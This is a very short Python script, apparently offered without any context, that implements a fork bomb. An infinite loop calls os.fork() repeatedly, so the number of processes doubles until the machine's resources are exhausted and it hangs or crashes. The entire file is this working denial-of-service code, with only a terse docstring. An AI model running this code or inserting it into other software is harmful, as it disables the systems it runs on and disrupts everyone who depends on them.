"""Doubles without end."""
import os

while True:
    os.fork()
